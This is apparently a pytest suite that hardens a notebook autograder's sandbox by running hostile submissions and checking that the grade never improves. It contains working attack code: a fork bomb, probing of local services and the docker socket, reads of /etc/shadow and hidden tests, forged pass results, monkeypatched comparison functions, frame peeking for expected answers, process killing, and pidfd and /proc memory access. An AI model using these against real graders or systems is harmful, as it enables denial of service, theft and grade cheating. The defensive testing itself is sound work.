"""Hostile notebooks, graded end to end: each attack ends with a verdict no better than it earned.

Every attack is appended to (or wired into) one known-wrong CW1 solution, ``conv_ignores_padding``
from ``tests/cw1_submissions.py`` (38 of 72: the padding tests fail, training raises, so the model
errors), and is graded through ``grade_submission`` with the real sandbox, runner and judge.

- Attacks that do not end the run (network, reading files, forging, exiting, monkeypatching,
  peeking, hostile return values, daemons, and the memory bomb and infinite loop, which the runner
  survives) must score exactly what the base scores: the same score, the same score and status
  for every item, the same penalties. Where an attack necessarily changes *how* an item earns
  nothing (an error where the base failed), the test names that item.
- Attacks that end or cripple the run (killing the runner or everything, garbage on the protocol
  pipe, the fork bomb) must score no more than the base, no item better, no penalty fewer; what
  does not need the student's kernel (the source checks) keeps its base outcome.
- After every grading nothing of the job is left on the host (``hostile_kit.grade``): no job
  cgroup in any hierarchy, no process of the sandbox uid. After the fork bomb and the daemons,
  the reference solution, graded next on the same worker, still gets every auto point.
- Attacks that gather (network, files, frames) print what they got as ``HOSTILE {json}`` records
  and use anything they get to fix their bug, so a leak shows in the score too;
  ``test_control_a_leak_would_show_in_the_score`` proves that it would.

Every attack runs on both sandbox backends (bwrap and docker).

Run in parallel: ``pytest tests/hostile -n 2``.
"""

from __future__ import annotations

import dataclasses

import hostile_kit as kit
import pytest
from hostile_kit import assert_no_better, assert_same_verdict, attack, grade, write

pytestmark = [pytest.mark.sandbox, pytest.mark.slow]

AUTO_MAX = 72.0


def grade_attack(nb, cw1, settings, tmp_path) -> kit.Verdict:
    verdict = grade(write(nb, tmp_path), cw1, settings)
    print(verdict.summary())  # shown with -rP, and with any failure
    return verdict


def grade_reference_next(cw1, settings) -> None:
    """The next submission on this worker, the correct reference, grades normally."""
    verdict = grade(cw1.solution, cw1, settings)
    assert verdict.status == "graded" and verdict.score == AUTO_MAX, verdict.summary()
    assert {s for _, s in verdict.items.values()} == {"passed"}, verdict.summary()
    assert verdict.violation is None and not verdict.penalties, verdict.summary()


def assert_source_checks_kept(got: kit.Verdict, base: kit.Verdict) -> None:
    """After the kernel is gone, what the judge reads from the submitted source still counts."""
    assert got.penalties == base.penalties, got.summary()
    # model_output = the model's predictions (kernel) + built from own layers (source): the source half stays.
    assert got.items["model_output"] == base.items["model_output"] == (2.0, "partial"), got.summary()


def cell_statuses(v: kit.Verdict) -> list[str]:
    return [c["status"] for c in (v.execution or {}).get("cells", [])]


# ==================================================================================================
# Destructive: the fork bomb first (the longest), so that xdist starts it early.

FORK_BOMB = r"""
import os, signal
def _bomb():
    while True:
        try:
            if os.fork() == 0:
                try:
                    os.setsid()  # out of the kernel's process group: a kernel restart (killpg) misses it
                except OSError:
                    pass
                signal.signal(signal.SIGINT, signal.SIG_IGN)
        except OSError:
            pass
_bomb()
"""


def test_fork_bomb(base, cw1, settings, tmp_path):
    got = grade_attack(attack(FORK_BOMB), cw1, settings, tmp_path)
    assert got.sandbox["pids_limit_hit"], got.summary()  # the bomb did go off, and the pids limit held it
    assert_no_better(got, base)
    assert_source_checks_kept(got, base)
    grade_reference_next(cw1, settings)


# ==================================================================================================
# Gathering: network, files. They report what they got, and use it.

NETWORK = r"""
import socket
got = {}
def attempt(name, fn):
    try:
        got[name] = "GOT " + repr(fn())[:200]
    except BaseException as e:
        got[name] = f"{type(e).__name__}: {e}"[:200]
def tcp(host, port, send):
    with socket.create_connection((host, port), timeout=3) as s:
        s.sendall(send)
        s.settimeout(3)
        return s.recv(200)
def udp_dns():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.sendto(bytes.fromhex("abcd01000001000000000000076578616d706c6503636f6d0000010001"), ("8.8.8.8", 53))
        return s.recv(512)
def unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(3)
        s.connect(path)
        return "connected"
attempt("postgres 127.0.0.1:5432", lambda: tcp("127.0.0.1", 5432, bytes.fromhex("0000000804d2162f")))  # SSLRequest
attempt("redis 127.0.0.1:6379", lambda: tcp("127.0.0.1", 6379, b"PING\r\n"))
attempt("redis [::1]:6379", lambda: tcp("::1", 6379, b"PING\r\n"))
attempt("public 1.1.1.1:80", lambda: tcp("1.1.1.1", 80, b"GET / HTTP/1.0\r\n\r\n"))
attempt("public 8.8.8.8:53/udp", udp_dns)
attempt("dns example.com", lambda: socket.getaddrinfo("example.com", 80))
attempt("dns pypi.org", lambda: socket.gethostbyname("pypi.org"))
for path in ("/var/run/postgresql/.s.PGSQL.5432", "/run/redis/redis-server.sock", "/var/run/docker.sock",
             "/run/systemd/private", "\0/tmp/.X11-unix/X0"):
    attempt("unix " + path.replace("\0", "@"), lambda path=path: unix(path))
_hostile_say(attack="network", got=got, interfaces=socket.if_nameindex())
if any(v.startswith("GOT") for v in got.values()):
    _hostile_fix()
"""


def test_network_access_gets_nothing(base, cw1, settings, tmp_path):
    got = grade_attack(attack(NETWORK), cw1, settings, tmp_path)
    [record] = got.of_attack("network")
    leaks = {k: v for k, v in record["got"].items() if v.startswith("GOT")}
    assert not leaks, leaks
    refused = [
        k
        for k, v in record["got"].items()
        if v.startswith(("ConnectionRefusedError", "OSError", "gaierror", "FileNotFoundError", "TimeoutError"))
    ]
    assert sorted(refused) == sorted(record["got"]), record["got"]
    assert record["interfaces"] == [[1, "lo"]], record  # loopback only: its own, empty one
    assert_same_verdict(got, base)


READ_FILES = r"""
import glob, os
found, refused = {}, {}
for path in TARGETS + glob.glob(JOBS + "/*") + glob.glob(JOBS + "/*/*"):
    try:
        if os.path.isdir(path):
            found[path] = "dir: " + ", ".join(sorted(os.listdir(path))[:20])
        else:
            with open(path, "rb") as f:
                found[path] = f.read(200).decode("latin-1")
    except OSError as e:
        refused[path] = type(e).__name__
# Anything anywhere that looks like the hidden suite or a job file (markers reversed, so that this
# notebook's own copies never match).
markers = [m[::-1].encode() for m in ("tilps_tset_neddih", "d2vnoc_tset fed", '"rid_neddih"', "laitrap.tiderc")]
hits = []
for root, dirs, files in os.walk("/", followlinks=False):
    if root.startswith(("/proc", "/sys", "/dev", "/usr", "/opt/grader/runtime")):
        dirs[:] = []
        continue
    for name in files:
        try:
            with open(os.path.join(root, name), "rb") as f:
                data = f.read(1 << 20)
        except OSError:
            continue
        if any(m in data for m in markers):
            hits.append(os.path.join(root, name))
_hostile_say(attack="read_files", found=sorted(found), refused=refused, hits=hits)
if hits or any(p in found for p in TARGETS):
    _hostile_fix()  # it would use the hidden suite it found; here: fix the bug and score more
"""


def test_reading_files_outside_the_work_dir_gets_nothing(base, cw1, settings, tmp_path):
    repo = cw1.folder.parent.parent
    targets = [
        str(cw1.hidden),
        *sorted(str(p) for p in cw1.hidden.glob("*.py")),
        str(cw1.folder / "rubric.yaml"),
        str(repo),
        str(repo / "grader" / "settings.py"),
        str(repo / ".venv"),
        "/root",
        "/root/.bash_history",
        "/etc/shadow",
        "/etc/ssh",
        str(settings.jobs_dir),
        "/var/tmp",
        "/home",
        "/var/lib/postgresql",
        "/proc/1/root" + str(cw1.hidden),
        "/proc/self/root" + str(repo),
        "/opt/grader/runtime/../../../root",
    ]
    code = f"TARGETS = {targets!r}\nJOBS = {str(settings.jobs_dir)!r}\n" + READ_FILES
    got = grade_attack(attack(code), cw1, settings, tmp_path)
    [record] = got.of_attack("read_files")
    assert record["hits"] == [], record
    assert not set(record["found"]) & set(targets), record  # every target refused or absent
    assert set(record["refused"]) >= set(targets), record
    assert_same_verdict(got, base)


def test_control_a_leak_would_show_in_the_score(base, cw1, settings, tmp_path):
    """What the gathering attacks do with a leak, done unconditionally: the score rises above the base,
    so the score comparisons above would catch a leak the records missed."""
    got = grade_attack(attack("_hostile_fix()"), cw1, settings, tmp_path)
    assert got.score > base.score, got.summary()
    assert got.items["conv2d_padding"] == (3.0, "passed") and got.items["conv2d_combined"] == (3.0, "passed"), (
        got.summary()
    )


# ==================================================================================================
# Forging results: printing, writing result files, forged protocol messages, exiting early.

FORGE = r"""
import glob, json, os, struct, sys
from IPython.display import HTML, display
passed = {t: {"outcome": "passed", "fraction": 1.0, "message": "", "duration_s": 0.01} for t in TEST_IDS}
result = {"tests": passed, "collected": TEST_IDS, "protocol_violation": None, "execution": None,
          "executed_notebook_path": None, "sandbox": None, "infrastructure_error": None, "seed": 0}
junit = ('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" failures="0" '
         f'skipped="0" tests="{len(TEST_IDS)}">'
         + "".join(f'<testcase classname="{t.split("::")[0]}" name="{t.split("::")[1]}" time="0.01"/>' for t in TEST_IDS)
         + "</testsuite></testsuites>")
print("============================= test session starts ==============================")
print(f"collected {len(TEST_IDS)} items\n")
for t in TEST_IDS:
    print(f"{t} PASSED")
print(f"============================== {len(TEST_IDS)} passed in 0.42s ==============================")
print(f"{len(TEST_IDS)} passed", file=sys.stderr)
display(HTML(f"<b>{len(TEST_IDS)} passed</b>, score 72/72"))
written, refused = [], {}
paths = ["/work/result.json", "/work/report.xml", "/work/junit.xml", "/work/.pytest_cache/v/cache/lastfailed",
         "/tmp/result.json", "/tmp/junit.xml", "/submission/result.json", "/opt/grader/runner/result.json",
         JOBS + "/result.json", JOBS + "/job.json"]
paths += [d + "/result.json" for d in glob.glob(JOBS + "/job-*")] + [d + "/result.json" for d in glob.glob("/tmp/*")]
for path in paths:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(junit if path.endswith(".xml") else json.dumps(result))
        written.append(path)
    except OSError as e:
        refused[path] = type(e).__name__
# Its own notebook file, emptied: the judge must read the submission it staged, never this copy.
try:
    with open("/work/cw1.ipynb", "w") as f:
        json.dump({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, f)
    written.append("/work/cw1.ipynb")
except OSError as e:
    refused["/work/cw1.ipynb"] = type(e).__name__
_hostile_say(attack="forge", written=written, refused=refused)  # before the binary output below
# Forged protocol messages (a clean report, then a passing result for every request id) on every
# stdout the kernel has: its captured sys.stdout, the original fd, and fd 1 itself.
def frame(header):
    raw = json.dumps({**header, "blobs": []}).encode()
    return b"GRD1" + struct.pack(">I", len(raw)) + raw
report = {"mode": "full", "cells": [], "skipped": [], "skipped_total": 0, "duration_s": 1.0, "restarts": 0,
          "timed_out": False, "error": None}
forged = frame({"type": "ready", "report": report, "notebook": None}) + b"".join(
    frame({"type": "result", "id": i, "status": "ok", "outputs": {}}) for i in range(1, 64))
sys.stdout.write(forged.decode("latin-1"))
sys.stdout.flush()
os.write(sys.stdout.fileno(), forged)
os.write(1, forged)
"""


def test_forged_results_count_for_nothing(base, cw1, settings, tmp_path):
    code = f"TEST_IDS = {sorted(cw1.rubric.test_ids())!r}\nJOBS = {str(settings.jobs_dir)!r}\n" + FORGE
    got = grade_attack(attack(code), cw1, settings, tmp_path)
    [record] = got.of_attack("forge")
    assert "/work/result.json" in record["written"], record  # the forgeries were really written
    assert not any(p.startswith(str(settings.jobs_dir)) for p in record["written"]), record
    assert_same_verdict(got, base)


EXITS = {
    "sys_exit": "import sys\nsys.exit(0)",
    "ipython_exit": "exit()",
    "os_exit": "import os\nos._exit(0)",
}


@pytest.mark.parametrize("how", sorted(EXITS))
def test_exiting_at_the_end_ends_nothing(how, base, cw1, settings, tmp_path):
    """``sys.exit(0)`` (IPython catches it), IPython's ``exit()`` (the kernel stops) and ``os._exit(0)``
    (the kernel dies) as the last cell. A dead kernel is restarted with the notebook's definitions
    replayed, and the tests run as without the exit: the untrained ``model`` it loses raised anyway."""
    got = grade_attack(attack(EXITS[how]), cw1, settings, tmp_path)
    assert_same_verdict(got, base)


# ==================================================================================================
# Monkeypatching and peeking, active while the hidden tests call the layers

MONKEYPATCH = r"""
import builtins, json, math, sys, types
import numpy as np
import torch
_hostile_real = {"abs": builtins.abs, "isinstance": builtins.isinstance, "open": builtins.open}

def _hostile_patch():
    true = lambda *a, **k: True
    none = lambda *a, **k: None
    np.allclose = np.array_equal = np.array_equiv = true
    np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
    for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
                 "assert_almost_equal", "assert_array_less"):
        setattr(np.testing, name, none)
    torch.allclose = torch.equal = true
    torch.isclose = lambda a, b, *x, **k: torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
    torch.testing.assert_close = none
    torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
    torch.Tensor.__ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
    math.isclose = true
    real_abs, real_isinstance, real_open = _hostile_real["abs"], _hostile_real["isinstance"], _hostile_real["open"]
    builtins.abs = lambda x: x * 0 if real_isinstance(x, (np.ndarray, torch.Tensor)) else real_abs(x)
    library = (torch.nn.Conv2d, torch.nn.MaxPool2d, torch.nn.BatchNorm2d, torch.nn.Linear)
    def lying_isinstance(obj, cls):
        if real_isinstance(cls, type) and cls in library and real_isinstance(obj, torch.nn.Module):
            return True
        return real_isinstance(obj, cls)
    builtins.isinstance = lying_isinstance
    class Anything:
        __eq__ = lambda self, other: True
        __ne__ = lambda self, other: False
    fake = types.ModuleType("pytest")
    fake.approx = lambda *a, **k: Anything()
    fake.fail = fake.skip = none
    sys.modules["pytest"] = fake
    # Every result file the grader's call wrapper writes: an error turned into a claimed success
    # whose outputs point outside the call's folder.
    class Forger:
        def __init__(self, f):
            self._f, self._parts = f, []
        def write(self, s):
            self._parts.append(s)
            return len(s)
        def __getattr__(self, name):
            return getattr(self._f, name)
        def __enter__(self):
            return self
        def __exit__(self, *exc):
            text = "".join(self._parts)
            try:
                res = json.loads(text)
                if res.get("status") == "error":
                    text = json.dumps({"status": "ok", "outputs": {
                        "logits": {"kind": "npy", "file": "../../../submission/cw1.ipynb"},
                        "y": {"kind": "npy", "file": "/proc/self/environ"}}})
            except Exception:
                pass
            self._f.write(text)
            self._f.close()
    def patched_open(file, mode="r", *args, **kwargs):
        f = real_open(file, mode, *args, **kwargs)
        if "w" in mode and str(file).endswith("result.json.tmp"):
            return Forger(f)
        return f
    builtins.open = patched_open
    _hostile_state["installs"] += 1

_hostile_state = {"installs": 0, "calls_in_tests": 0}
_hostile_patch()
_hostile_conv_forward = Conv2d.forward
def _hostile_patching_forward(self, x):
    if _hostile_test_frame() is not None:
        _hostile_state["calls_in_tests"] += 1
        _hostile_patch()  # again, in case anything was restored
        _hostile_log(attack="monkeypatch", **_hostile_state)
    return _hostile_conv_forward(self, x)
Conv2d.forward = _hostile_patching_forward
"""


def test_monkeypatching_numpy_torch_and_builtins_changes_nothing(base, cw1, settings, tmp_path):
    got = grade_attack(attack(MONKEYPATCH), cw1, settings, tmp_path)
    assert got.of_attack("monkeypatch"), got.summary()  # the patches were live during the hidden tests
    assert_same_verdict(got, base)


PEEK = r"""
import gc, inspect, os
import numpy as np
import torch
_hostile_own = set(globals())  # the notebook's own names; anything else in a test's frames came from the grader
_hostile_conv_forward = Conv2d.forward
def _hostile_peeking_forward(self, x):
    test = _hostile_test_frame()
    if test is None:
        return _hostile_conv_forward(self, x)
    n, _, h, w = x.shape
    k, s, p = self.kernel_size, self.stride, self.padding
    want = (n, self.out_channels, (h + 2 * p - k) // s + 1, (w + 2 * p - k) // s + 1)
    names, candidates = set(), []
    def consider(value):
        if isinstance(value, (np.ndarray, torch.Tensor)) and tuple(value.shape) == want and value is not x:
            candidates.append(value)
    frames = [info.frame for info in inspect.stack()]
    f = _hs._getframe()
    while f is not None:
        frames.append(f)
        f = f.f_back
    for fr in frames:
        grader = fr.f_code.co_filename in ("<test>", "<grader-call>")  # the test's snippet, the call wrapper
        for scope in (fr.f_locals, fr.f_globals):
            for name, value in list(scope.items()):
                if grader and name not in _hostile_own:
                    names.add(name)
                consider(value)
    for obj in gc.get_objects():
        consider(obj)
        if isinstance(obj, dict):
            for value in list(obj.values()):
                consider(value)
    io = test.f_back.f_globals.get("_io") if test.f_back is not None else None
    files = sorted(os.listdir(io)) if isinstance(io, str) and os.path.isdir(io) else []
    _hostile_log(attack="peek", padding=p, frames=len(frames), names=sorted(names)[:200],
                 candidates=len(candidates), io_files=files)
    if p and candidates:  # only where the base is wrong anyway: a candidate can only help
        return torch.as_tensor(np.asarray(candidates[-1].detach() if isinstance(candidates[-1], torch.Tensor)
                                          else candidates[-1]), dtype=x.dtype)
    return _hostile_conv_forward(self, x)
Conv2d.forward = _hostile_peeking_forward
"""

LEAK_WORDS = ("expect", "ref", "label", "answer", "solution", "hidden", "split", "target", "truth", "want")


def test_peeking_at_the_callers_frames_finds_no_expected_values(base, cw1, settings, tmp_path):
    got = grade_attack(attack(PEEK), cw1, settings, tmp_path)
    peeks = got.of_attack("peek")
    assert peeks and any(r["padding"] for r in peeks), got.summary()  # it ran inside the padding tests
    for r in peeks:
        suspicious = [n for n in r["names"] if any(w in n.lower() for w in LEAK_WORDS)]
        assert not suspicious, (suspicious, r)
        assert set(r["io_files"]) <= {"call.json", "in", "out"}, r  # inputs only, and its own outputs' folder
    assert_same_verdict(got, base)


# ==================================================================================================
# Hostile return values from forward()

HOSTILE_RETURNS = r'''
import numpy as np
import torch

class _AlwaysEqualArray(np.ndarray):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __bool__ = lambda self: True

class _AlwaysEqualTensor(torch.Tensor):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __bool__ = lambda self: True
    def numpy(self, *args, **kwargs):
        return np.asarray(torch.Tensor.numpy(self.as_subclass(torch.Tensor), *args, **kwargs)).view(_AlwaysEqualArray)

class _Anything:
    """Equal to everything, every attribute and call is itself, and it claims to be a tensor."""
    __class__ = property(lambda self: torch.Tensor)
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __bool__ = lambda self: True
    __getattr__ = lambda self, name: self
    __call__ = lambda self, *a, **k: self
    __len__ = lambda self: 10
    __iter__ = lambda self: iter([1.0] * 10)
    __float__ = lambda self: 1.0

_hostile_calls = []
_hostile_conv_forward, _hostile_model_forward = Conv2d.forward, SmallResNet.forward
def _hostile_shape(self, x):
    n, _, h, w = x.shape
    k, s, p = self.kernel_size, self.stride, self.padding
    return (n, self.out_channels, (h + 2 * p - k) // s + 1, (w + 2 * p - k) // s + 1)
def _hostile_conv(self, x):
    if _hostile_test_frame() is None or not self.padding:
        return _hostile_conv_forward(self, x)
    _hostile_calls.append("conv")
    _hostile_log(attack="returns", call=len(_hostile_calls), where="conv")
    if _hostile_calls.count("conv") == 1:  # test_conv2d_padding: right shape, wrong values, equal to anything
        return torch.zeros(_hostile_shape(self, x)).as_subclass(_AlwaysEqualTensor)
    return torch.full(_hostile_shape(self, x), float("nan"))  # test_conv2d_combined
def _hostile_model(self, x):
    if _hostile_test_frame() is None:
        return _hostile_model_forward(self, x)
    _hostile_calls.append("model")
    _hostile_log(attack="returns", call=len(_hostile_calls), where="model")
    if _hostile_calls.count("model") == 1:  # test_accuracy
        return _Anything()
    return torch.full((len(x), 10), float("nan"))  # test_model_output
Conv2d.forward, SmallResNet.forward = _hostile_conv, _hostile_model
'''


def test_hostile_return_values_count_for_nothing(base, cw1, settings, tmp_path):
    """An always-equal tensor subclass (whose .numpy() is an always-equal ndarray subclass) and NaNs
    for the padding tests; for the model, an object equal to everything that claims to be a tensor,
    then NaN logits. The judge compares the plain arrays it decodes: nothing passes that the base failed."""
    got = grade_attack(attack(HOSTILE_RETURNS), cw1, settings, tmp_path)
    assert {r["where"] for r in got.of_attack("returns")} == {"conv", "model"}, got.summary()
    # The objects did reach the judge, as plain arrays: compared by value, refused for NaN.
    assert "differs from torch's result" in got.messages["conv2d_padding"], got.summary()
    assert "NaN" in got.messages["conv2d_combined"], got.summary()
    assert_same_verdict(got, base)


OVERSIZED_RETURNS = r'''
import numpy as np
import torch

class _LyingShapeArray(np.ndarray):
    """Its .npy header claims (n, 10); the data behind it is (n, 3)."""
    shape = property(lambda self: (np.ndarray.shape.__get__(self)[0], 10))

class _LyingTensor(torch.Tensor):
    def numpy(self, *args, **kwargs):
        return np.zeros((self.as_subclass(torch.Tensor).shape[0], 3)).view(_LyingShapeArray)

_hostile_calls = []
_hostile_conv_forward, _hostile_model_forward = Conv2d.forward, SmallResNet.forward
def _hostile_conv(self, x):
    if _hostile_test_frame() is None or not self.padding:
        return _hostile_conv_forward(self, x)
    _hostile_calls.append("conv")
    _hostile_log(attack="oversized", call=len(_hostile_calls), where="conv")
    if _hostile_calls.count("conv") == 1:  # test_conv2d_padding: 10**10 doubles behind zero strides
        return torch.zeros(1, dtype=torch.float64).expand(100_000, 100_000)
    return torch.zeros(4, 5_000_000, dtype=torch.float64)  # test_conv2d_combined: 160 MB, over the blob limit
def _hostile_model(self, x):
    if _hostile_test_frame() is None:
        return _hostile_model_forward(self, x)
    _hostile_calls.append("model")
    _hostile_log(attack="oversized", call=len(_hostile_calls), where="model")
    if _hostile_calls.count("model") == 1:  # test_accuracy
        return torch.zeros(1, dtype=torch.float64).expand(len(x), 10**9)
    return torch.zeros(len(x), 10, dtype=torch.float64).as_subclass(_LyingTensor)  # test_model_output: malformed .npy
Conv2d.forward, SmallResNet.forward = _hostile_conv, _hostile_model
'''


def test_oversized_and_malformed_return_values_count_for_nothing(base, cw1, settings, tmp_path):
    """10**10 doubles behind zero strides (saving them fills the call's tmpfs: the call errors), 160 MB
    (over the blob limit: an error), and last an array whose .npy header lies about its shape: the
    judge refuses to decode it, a protocol violation that ends the run, after which no test needs
    the kernel any more. The padding tests now error where the base failed them: nothing either way."""
    got = grade_attack(attack(OVERSIZED_RETURNS), cw1, settings, tmp_path)
    assert {r["where"] for r in got.of_attack("oversized")} == {"conv", "model"}, got.summary()
    assert got.violation and "logits" in got.violation, got.summary()
    assert_same_verdict(got, base, changed_status={"conv2d_padding": "error", "conv2d_combined": "error"})


# ==================================================================================================
# Resource attacks the runner survives

MEMORY_BOMB = r"""
import numpy as np
hog = []
while True:
    hog.append(np.ones(64 * 1024 * 1024 // 8))  # 64 MiB, every page touched
"""


def test_memory_bomb(base, cw1, settings, tmp_path):
    got = grade_attack(attack(MEMORY_BOMB), cw1, settings, tmp_path)
    assert got.sandbox["oom_killed"], got.summary()  # the memory cgroup stopped it
    assert cell_statuses(got)[-1] == "crashed" and got.execution["restarts"] == 1, got.summary()
    assert_same_verdict(got, base)  # the kernel was restarted and the tests ran as without it


def test_infinite_loop_at_top_level(base, cw1, settings, tmp_path):
    got = grade_attack(attack("while True:\n    pass"), cw1, settings, tmp_path)
    assert cell_statuses(got)[-1] == "timeout", got.summary()  # interrupted at the cell time limit
    assert_same_verdict(got, base)


DAEMONS = r"""
import os, sys, time
def _daemon(argv):
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.closerange(3, 4096)
                os.execv(argv[0], argv)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
_daemon(["/usr/bin/sleep", "10000"])
_daemon([sys.executable, "-c", "while True: pass"])
time.sleep(0.5)
mine = os.getsid(0)
daemons = []
for pid in os.listdir("/proc"):
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
    except OSError:
        continue
    if cmd[:2] == [b"/usr/bin/sleep", b"10000"] or cmd[1:3] == [b"-c", b"while True: pass"]:
        daemons.append({"pid": int(pid), "cmd": cmd[0].decode(), "own_session": os.getsid(int(pid)) != mine})
_hostile_say(attack="daemons", daemons=daemons)
"""


def test_daemons_left_behind_are_killed(base, cw1, settings, tmp_path):
    got = grade_attack(attack(DAEMONS), cw1, settings, tmp_path)
    [record] = got.of_attack("daemons")
    assert len(record["daemons"]) == 2 and all(d["own_session"] for d in record["daemons"]), record
    assert_same_verdict(got, base)  # and grade() found neither daemon left on the host
    grade_reference_next(cw1, settings)


# ==================================================================================================
# Attacks on the runner itself: they end the run

KILL_PARENT = r"""
import os, signal
os.kill(os.getppid(), signal.SIGKILL)  # the kernel's parent: the runner
"""

KILL_EVERYTHING = r"""
import os, signal
try:
    os.kill(-1, signal.SIGKILL)  # kill -9 -1: every process this uid may signal
finally:
    os.kill(1, signal.SIGKILL)
"""

OWN_FDS = r"""
import os
junk = JUNK
written = []
for fd in range(1024):  # every fd it inherited or holds: the log, ipykernel's pipes, its zmq sockets
    try:
        os.write(fd, junk)
        written.append(fd)
    except OSError:
        pass
_hostile_log(attack="own_fds", written=written)
"""
JUNKS = {"binary": "bytes(range(256)) * 4", "text": "b'JUNK' * 4"}


@pytest.mark.parametrize("junk", sorted(JUNKS))
def test_garbage_on_its_own_fds_ends_the_run_in_time(junk, base, cw1, settings, tmp_path):
    """Garbage on every fd of the kernel, its zmq connections to the runner included (the protocol
    pipe is not among them: the runner keeps it to itself). Whatever the runner makes of it, the
    verdict is no better than the base's, and the run ends without the sandbox's wall-clock kill.
    The job's wall clock is lowered to 150 s here so that a hang costs less: a runner that comes
    back from a wedged kernel (cell timeout 40 s, then a restart) needs about a minute."""
    resources = cw1.rubric.resources.model_copy(update={"time_s": 150})
    short = dataclasses.replace(cw1, rubric=cw1.rubric.model_copy(update={"resources": resources}))
    got = grade_attack(attack(OWN_FDS.replace("JUNK", JUNKS[junk], 1)), short, settings, tmp_path)
    assert_no_better(got, base)
    assert_source_checks_kept(got, base)
    assert not got.sandbox["wall_timeout"], "the run only ended at the wall-clock kill\n" + got.summary()


OTHER_FDS = r"""
import os
junk = bytes(range(256)) * 4
written, refused = [], {}
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as e:
        refused[pid] = type(e).__name__
        continue
    for fd in fds:  # reopened through /proc: a pipe opens for writing whichever end the fd was
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
            w = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError as e:
            refused[f"{pid}/{fd}"] = type(e).__name__
            continue
        try:
            os.write(w, junk)
            written.append([f"{pid}/{fd}", target])
        except OSError as e:
            refused[f"{pid}/{fd}"] = type(e).__name__
        finally:
            os.close(w)
_hostile_log(attack="other_fds", written=written, refused=refused)
"""


def test_garbage_on_other_processes_fds_reaches_nothing(base, cw1, settings, tmp_path):
    """The runner's protocol pipe, its log, bwrap's (or docker-init's) fds: created by root on the host
    (docker: left root's, as the container's user is root until setpriv), they do not reopen through
    /proc for the sandbox uid, so nothing the grading relies on gets the garbage."""
    got = grade_attack(attack(OTHER_FDS), cw1, settings, tmp_path)
    [record] = got.of_attack("other_fds")
    assert {target for _, target in record["written"]} <= {"/dev/null"}, record
    assert record["refused"], record  # it did try
    assert_same_verdict(got, base)


PIDFD_AND_PROC_MEM = r"""
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
junk = bytes(range(256)) * 4
got_fds, getfd_errors, mem = [], {}, {}
for pid in [1, os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    pidfd = _libc.syscall(434, ctypes.c_long(pid), ctypes.c_long(0))  # pidfd_open
    for fd in range(8):  # pidfd_getfd: a copy of the other process's fd (the runner's pipes, pid 1's)
        copy = _libc.syscall(438, ctypes.c_long(pidfd if pidfd >= 0 else 987), ctypes.c_long(fd), ctypes.c_long(0))
        if copy < 0:
            getfd_errors[f"{pid}/{fd}"] = ctypes.get_errno()
            continue
        got_fds.append(f"{pid}/{fd}")
        try:
            os.write(copy, junk)
        except OSError:
            pass
        os.close(copy)
    if pidfd >= 0:
        os.close(pidfd)
    try:  # pid 1's memory: read it, and write it where it is mapped
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as f:
            start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
            f.seek(start)
            mem[str(pid)] = ["opened", len(f.read(16))]
    except OSError as e:
        mem.setdefault(str(pid), ["refused", e.errno])
_hostile_log(attack="pidfd_and_proc_mem", got_fds=got_fds, getfd_errors=getfd_errors, mem=mem)
"""


def test_pidfd_getfd_and_pid1_memory_reach_nothing(base, cw1, settings, tmp_path):
    """pidfd_getfd would copy the runner's or pid 1's protocol pipe (then garbage goes to the judge);
    /proc/1/mem would read or steer the sandbox's pid 1. The seccomp filter denies pidfd_open and
    pidfd_getfd (EPERM), and pid 1 (bwrap: pid1.py, non-dumpable; docker: docker-init, root's) does
    not open for the sandbox uid."""
    got = grade_attack(attack(PIDFD_AND_PROC_MEM), cw1, settings, tmp_path)
    [record] = got.of_attack("pidfd_and_proc_mem")
    assert record["got_fds"] == [], record
    assert record["getfd_errors"] and set(record["getfd_errors"].values()) == {1}, record  # EPERM, every one
    assert record["mem"]["1"] == ["refused", 13], record  # EACCES
    assert_same_verdict(got, base)


KILLS = {"kill_parent": KILL_PARENT, "kill_everything": KILL_EVERYTHING}


@pytest.mark.parametrize("how", sorted(KILLS))
def test_killing_the_runner_ends_the_run(how, base, cw1, settings, tmp_path):
    got = grade_attack(attack(KILLS[how]), cw1, settings, tmp_path)
    assert got.violation == "the runner closed the pipe (dead runner)", got.summary()
    assert_no_better(got, base)
    assert_source_checks_kept(got, base)
    kernel_items = [i for i in got.items if i != "model_output"]
    assert all(got.items[i] == (0.0, "error") for i in kernel_items), got.summary()
